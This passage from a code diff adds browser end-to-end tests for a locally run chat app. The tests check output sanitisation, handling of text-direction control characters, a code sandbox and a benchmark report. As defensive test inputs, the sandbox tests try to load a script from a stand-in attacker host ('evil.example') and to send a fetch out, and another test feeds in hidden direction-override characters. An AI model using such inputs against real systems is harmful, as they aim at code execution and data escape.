+        assert.equal(await page.evaluate(() => 'pwned' in globalThis), false);
+        assert.deepEqual(got.links.filter((l) => l !== null && !/^(https?:|mailto:|#)/.test(l)), []);
+        // On a quiet machine these take a tenth; the bound is for what would take minutes.
+        assert.ok(got.took < 20_000, `it took ${got.took.toFixed(0)} ms`);
+        assert.ok(got.longest < 3000, `a frame took ${got.longest.toFixed(0)} ms`);
+        if (/1 MB|rows|brackets/.test(name)) {
+          assert.ok(got.text.length > text.length * 0.6, 'all of it is there');
+        }
+      });
+    }
+
+    test('hostile output: characters that turn the direction of text', { timeout }, async () => {
+      const got = await stream('good \u202etxet live\u202c end\n\n```js\nif (admin\u202e \u2066) {}\n```\n\n`a\u202eb`\n\nمرحبا بالعالم', 3);
+      assert.doesNotMatch(got.text, /[\u202a-\u202e\u2066-\u2069]/);
+      assert.match(got.text, /admin\[U\+202E\]/);
+      assert.match(got.text, /a\[U\+202E\]b/);
+      const direction = await page.locator('#thread .block').last().evaluate((e) => getComputedStyle(e).direction);
+      assert.equal(direction, 'rtl');
+    });
+
+    test('the sandbox runs programs and lets nothing out', { timeout }, async () => {
+      const run = (code: string) => page.evaluate((code) => globalThis.harness.runInSandbox(code, new AbortController().signal), code);
+      assert.equal(await run('console.log("hi", {a: 1}); 6 * 7'), 'hi {"a":1}\n42');
+      assert.equal(await run('new Promise((r) => setTimeout(() => r("later"), 50))'), 'later');
+      assert.match(await run('throw new Error("no")'), /^Error: Error: no/);
+      assert.match(await run('syntax error here'), /SyntaxError/);
+      assert.match(await run(`fetch(${JSON.stringify(server.url)}).then(() => "out", (e) => "kept in")`), /kept in/);
+      assert.match(await run('typeof document + typeof localStorage + typeof parent'), /undefined/);
+      assert.match(await run('try { importScripts("https://evil.example/x.js"); "out" } catch { "kept in" }'), /kept in/);
+      assert.match(await run('indexedDB.open("gossamer-chat"); "out"').catch((e: Error) => e.message), /Error|denied/);
+      assert.match(await run('for (;;) {}'), /did not end within 5 seconds/);
+      assert.equal(await page.locator('iframe').count(), 0);
+    });
+  });
+
+  test('the benchmark measures, and gives JSON and a plot', { timeout: 900_000 }, async () => {
+    const tab = await visit('bench.html?depths=128,256&runs=2');
+    const { page } = tab;
+    await page.getByRole('button', { name: 'Measure' }).click();
+    await page.locator('.plot').waitFor({ timeout: 880_000 });
+    await checkAccessibility(page, 'benchmark');
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save JSON' }).click()]);
+    const report = JSON.parse(readFileSync(await download.path(), 'utf8'));
+    assert.equal(report.backend, 'webgpu');
+    for (const value of [report.load.seconds, report.copy_bytes_per_second, report.time_to_first_token_ms, report.decode[0].tokens_per_second.mean,
+      report.prefill[0].tokens_per_second.mean, report.decode[0].gb_per_second, report.decode[0].of_copy_bandwidth]) {
+      assert.ok(value > 0 && Number.isFinite(value), JSON.stringify(report));
+    }
+    const [plot] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save plot' }).click()]);
+    assert.match(readFileSync(await plot.path(), 'utf8'), /^<svg xmlns="http:\/\/www.w3.org\/2000\/svg".*tokens in the prompt/s);
+    await leave(tab);
+  });
+});
